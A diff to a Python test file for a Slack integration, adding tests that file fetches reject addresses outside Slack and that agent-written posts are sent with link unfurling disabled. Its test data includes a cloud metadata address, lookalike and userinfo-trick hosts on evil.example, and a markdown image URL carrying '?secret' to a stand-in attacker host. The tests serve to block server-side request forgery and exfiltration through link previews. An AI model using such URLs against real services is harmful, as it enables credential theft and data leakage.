@@ -180,7 +180,38 @@ async def test_a_login_page_is_not_taken_for_the_file(
 
 async def test_a_file_that_is_too_large_is_not_fetched(platform: SlackPlatform) -> None:
     with pytest.raises(SendError, match="more than 20,000,000 bytes"):
-        await platform.fetch(FileIn(name="a.iso", url="http://x/", size=21_000_000))
+        url = f"{platform._web.settings.api_url}a.iso"
+        await platform.fetch(FileIn(name="a.iso", url=url, size=21_000_000))
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://169.254.169.254/latest/meta-data",
+        "http://slack.com/a.txt",
+        "https://slack.com.evil.example/a.txt",
+        "https://evilslack.com/a.txt",
+        "https://slack.com@evil.example/a.txt",
+    ],
+)
+async def test_nothing_is_fetched_from_elsewhere(platform: SlackPlatform, url: str) -> None:
+    with pytest.raises(SendError, match="outside of Slack"):
+        await platform.fetch(FileIn(name="a.txt", url=url, size=1))
+
+
+async def test_slack_fetches_no_address_that_an_agent_writes(
+    platform: SlackPlatform, thread: Place, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    sent: list[dict[str, object]] = []
+    call = platform._web.call
+
+    async def seen(method: str, **arguments: object) -> dict[str, object]:
+        sent.append(arguments)
+        return await call(method, **arguments)
+
+    monkeypatch.setattr(platform._web, "call", seen)
+    await platform.post(thread, Text("![x](https://evil.example/?secret)"), KEY)
+    assert (sent[0]["unfurl_links"], sent[0]["unfurl_media"]) == (False, False)
 
 
 async def test_status_and_marks_come_and_go(
